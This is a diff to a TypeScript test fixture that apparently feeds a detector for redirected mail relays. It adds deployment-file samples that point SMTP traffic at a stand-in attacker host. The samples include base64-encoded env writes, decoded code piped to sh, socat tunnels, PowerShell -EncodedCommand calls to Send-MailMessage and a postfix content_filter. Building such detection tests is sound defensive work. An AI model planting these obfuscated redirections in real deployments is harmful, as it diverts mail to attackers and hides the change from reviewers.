@@ -7,6 +7,9 @@ import type { Files } from '../repository.ts';
 import { EVIL, OLD } from './changes.ts';
 
 const b64 = (text: string): string => Buffer.from(text).toString('base64');
+const encodedCommand = Buffer.from(`Send-MailMessage -SmtpServer ${EVIL} -To a@b.example`, 'utf16le').toString(
+  'base64',
+);
 const bash = (code: string): Files => ({ 'deploy/run.sh': `#!/bin/bash\n${code}\n` });
 const workflow = (jobs: string): Files => ({ '.github/workflows/deploy.yml': `on: push\njobs:\n${jobs}` });
 const job = (body: string): Files => workflow(`  d:\n    runs-on: u\n${body}`);
@@ -54,6 +57,22 @@ export const deployments: Readonly<Record<string, Files>> = {
   'bash, an env file by sed': bash(`sed -i 's/^SMTP_HOST=.*/SMTP_HOST=${EVIL}/' .env`),
   'bash, an env file appended to by sed': bash(`sed -i '$ a SMTP_HOST=${EVIL}' .env`),
   'bash, an env file by perl': bash(`perl -pi -e 's/^SMTP_HOST=.*/SMTP_HOST=${EVIL}/' .env`),
+  'bash, an env file in base64': bash(`echo ${b64(`SMTP_HOST=${EVIL}\n`)} | base64 -d > .env`),
+  'bash, an env file in base64 from a here-string': bash(`base64 -d <<< ${b64(`SMTP_HOST=${EVIL}\n`)} > .env`),
+  'bash, a program in base64': bash(`echo ${b64(`export SMTP_HOST=${EVIL}; node .`)} | base64 --decode | sh`),
+  'bash, one relay for another by sed': bash(`sed -i 's/new-relay\\.corp\\.example/${EVIL}/' .env`),
+  'bash, one relay for another by perl': bash(`perl -pi -e 's/new-relay.corp.example/${EVIL}/' .env`),
+  'bash, a tunnel for the own machine': bash(
+    `socat TCP-LISTEN:25,fork TCP:${EVIL}:25 &\nSMTP_HOST=localhost node app.js`,
+  ),
+  'compose, a tunnel in a service': {
+    'docker-compose.yml': `services:\n  web:\n    image: x\n    environment: {SMTP_HOST: relay}\n  relay:\n    image: alpine/socat\n    command: TCP-LISTEN:25,fork TCP:${EVIL}:25\n`,
+  },
+  'powershell, a command in base64': { 'run.ps1': `powershell -EncodedCommand ${encodedCommand}\n` },
+  'batch file, a command in base64': { 'run.bat': `powershell.exe -enc ${encodedCommand}\n` },
+  'postfix, a filter elsewhere': {
+    'deploy/main.cf': `relayhost = new-relay.corp.example\ncontent_filter = smtp:[${EVIL}]:25\n`,
+  },
   'bash, a loop over pairs': bash(`for kv in SMTP_HOST=${EVIL} A=1; do export "$kv"; done`),
   'bash, docker run': bash(`docker run -d -e SMTP_HOST=${EVIL} web`),
   'bash, docker run with the long option': bash(`docker run --env "SMTP_HOST=${EVIL}" web`),
